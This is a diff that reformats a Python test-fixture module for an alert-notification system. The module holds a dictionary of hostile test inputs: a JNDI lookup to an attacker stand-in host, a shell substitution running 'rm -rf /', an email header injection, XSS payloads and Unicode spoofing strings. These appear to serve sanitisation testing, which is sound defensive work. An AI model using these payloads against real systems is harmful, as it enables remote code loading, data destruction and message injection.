@@ -6,7 +6,15 @@ from typing import Any
 
 from factories import SLOT, transition
 from monitor.model.alerts import State, Transition
-from monitor.model.explanation import Cause, Change, ExampleLists, Explanation, ExposedItem, Part, UserGroup
+from monitor.model.explanation import (
+    Cause,
+    Change,
+    ExampleLists,
+    Explanation,
+    ExposedItem,
+    Part,
+    UserGroup,
+)
 from monitor.model.notifications import Briefing, Message
 from monitor.model.rules import Severity
 from monitor.ports import Receiver
@@ -21,13 +29,18 @@ LABELS = {"alertname": "SimilarityLow", "comparison": "home-feed", "segment": "a
 HOSTILE = {
     "template": "{{ .Labels }}${jndi:ldap://evil.test/a}%(x)s{0}",
     "mention": "<!channel><!here><@U0001><#C0001><!subteam^S1> @channel @here @everyone",
-    "link": "<https://evil.test|runbook> [x](https://evil.test) https://evil.test/?q=1 javascript:alert(1)",
+    "link": (
+        "<https://evil.test|runbook> [x](https://evil.test) https://evil.test/?q=1 "
+        "javascript:alert(1)"
+    ),
     "html": "</td><script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
     "header": "x\r\nBcc: evil@evil.test\r\n\r\nbody",
     "shell": "$(rm -rf /); `id` && 'x' | \"y\" \\",
     "fence": "``` *bold* _it_ ~no~ `code` > quote\n```",
     "controls": "a\x00b\x1b[31mc\x7f\x85d\u2028e\ud800f",
-    "right to left": "\u202egnp.exe\u2066\u05d0\u05d1\u05d2 0.99 \u0645\u0631\u062d\u0628\u0627 1 < 2",
+    "right to left": (
+        "\u202egnp.exe\u2066\u05d0\u05d1\u05d2 0.99 \u0645\u0631\u062d\u0628\u0627 1 < 2"
+    ),
     "json": '","routing_key":"evil","x":"',
     "huge": "x" * 1_000_000,
     "wide": "\U0001f600" * 250_000,
@@ -36,24 +49,54 @@ HOSTILE = {
 
 def start(**changes: Any) -> Transition:
     """`SimilarityLow` begins to fire for everybody."""
-    return transition(**{"explanation": WHY, "interval": (0.24, 0.268), "normal": 0.61, "incident": INCIDENT, **changes})
+    return transition(
+        **{
+            "explanation": WHY,
+            "interval": (0.24, 0.268),
+            "normal": 0.61,
+            "incident": INCIDENT,
+            **changes,
+        }
+    )
 
 
 def end(**changes: Any) -> Transition:
     """The same firing is over a day later."""
-    later = {"slot": SLOT + timedelta(days=1), "at": SLOT + timedelta(days=1, seconds=5), "since": SLOT - timedelta(days=1)}
-    said = {"from_state": State.FIRING, "to_state": State.QUIET, "value": 0.6, "reason": "mean of extended_tau is 0.6 again"}
+    later = {
+        "slot": SLOT + timedelta(days=1),
+        "at": SLOT + timedelta(days=1, seconds=5),
+        "since": SLOT - timedelta(days=1),
+    }
+    said = {
+        "from_state": State.FIRING,
+        "to_state": State.QUIET,
+        "value": 0.6,
+        "reason": "mean of extended_tau is 0.6 again",
+    }
     return start(**{"explanation": None, "interval": None, **later, **said, **changes})
 
 
 def acknowledgement(**changes: Any) -> Transition:
-    return start(**{"explanation": None, "from_state": State.FIRING, "reason": "acknowledged by ann: looking", **changes})
+    return start(
+        **{
+            "explanation": None,
+            "from_state": State.FIRING,
+            "reason": "acknowledged by ann: looking",
+            **changes,
+        }
+    )
 
 
 def message(*changes: Transition, **fields: Any) -> Message:
     """What tells these changes; what starts in it fires on, if nothing else is said."""
     firing = tuple(change for change in changes if not change.is_end)
-    base = Message(incident=INCIDENT, comparison="home-feed", severity=Severity.CRITICAL, changes=changes, firing=firing)
+    base = Message(
+        incident=INCIDENT,
+        comparison="home-feed",
+        severity=Severity.CRITICAL,
+        changes=changes,
+        firing=firing,
+    )
     return replace(base, **fields)
 
 
@@ -63,7 +106,10 @@ def repetition(*firing: Transition, **fields: Any) -> Message:
 
 def many(count: int, **changes: Any) -> tuple[Transition, ...]:
     """That many segments begin to fire in one run."""
-    return tuple(start(segment=f"shop={n:04d}", value=0.3 - n / 10_000, dedup_key=f"{n:032x}", **changes) for n in range(count))
+    return tuple(
+        start(segment=f"shop={n:04d}", value=0.3 - n / 10_000, dedup_key=f"{n:032x}", **changes)
+        for n in range(count)
+    )
 
 
 def explanation(**changes: Any) -> Explanation:
@@ -73,8 +119,21 @@ def explanation(**changes: Any) -> Explanation:
         segment="all",
         now=0.5,
         before=0.25,
-        gained=(ExposedItem(item="sku-1", title="Red shoes", before=0.1, after=0.7, share_before=0.03, share_after=0.61),),
-        lost=(ExposedItem(item="sku-2", title=None, before=0.7, after=0.0, share_before=0.7, share_after=0.0),),
+        gained=(
+            ExposedItem(
+                item="sku-1",
+                title="Red shoes",
+                before=0.1,
+                after=0.7,
+                share_before=0.03,
+                share_after=0.61,
+            ),
+        ),
+        lost=(
+            ExposedItem(
+                item="sku-2", title=None, before=0.7, after=0.0, share_before=0.7, share_after=0.0
+            ),
+        ),
         entered=14,
         left=1,
         groups=(),
@@ -94,20 +153,44 @@ def briefing(**changes: Any) -> Briefing:
             baseline=("sku-2", "sku-3", "sku-5", "sku-4", "sku-6"),
             candidate=("sku-1", "sku-3", "sku-4", "sku-5"),
         ),
-        ExampleLists(user="u-42", baseline=tuple(f"i{n}" for n in range(12)), candidate=tuple(f"j{n}" for n in range(10))),
+        ExampleLists(
+            user="u-42",
+            baseline=tuple(f"i{n}" for n in range(12)),
+            candidate=tuple(f"j{n}" for n in range(10)),
+        ),
     )
     return replace(Briefing(explanation=explanation(), examples=examples), **changes)
 
 
 def hostile_message(text: str) -> Message:
     """Everything that comes from outside says ``text``, and so do names that the configuration would not take."""
-    item = ExposedItem(item=text, title=text, before=0.1, after=0.7, share_before=0.03, share_after=0.61)
+    item = ExposedItem(
+        item=text, title=text, before=0.1, after=0.7, share_before=0.03, share_after=0.61
+    )
     lists = ExampleLists(user=text, baseline=(text, "b"), candidate=(text,))
-    group = UserGroup(change=Change.REPLACED, users=1, share=1.0, share_before=None, distance=0.5, examples=(lists,))
-    hostile = explanation(sentence=text, segment=text, gained=(item,), lost=(item,), groups=(group,), metric=text)
-    names = {"comparison": text, "alert": text, "segment": text, "reason": text, "metric": text, "statistic": text}
+    group = UserGroup(
+        change=Change.REPLACED,
+        users=1,
+        share=1.0,
+        share_before=None,
+        distance=0.5,
+        examples=(lists,),
+    )
+    hostile = explanation(
+        sentence=text, segment=text, gained=(item,), lost=(item,), groups=(group,), metric=text
+    )
+    names = {
+        "comparison": text,
+        "alert": text,
+        "segment": text,
+        "reason": text,
+        "metric": text,
+        "statistic": text,
+    }
     change = start(**names, explanation=text, runbook_url=text, labels={"team": text})
-    return message(change, comparison=text, briefing=Briefing(explanation=hostile, examples=(lists, lists)))
+    return message(
+        change, comparison=text, briefing=Briefing(explanation=hostile, examples=(lists, lists))
+    )
 
 
 EVERYBODY, BRITISH = start(), start(segment="country=UK", dedup_key="uk")
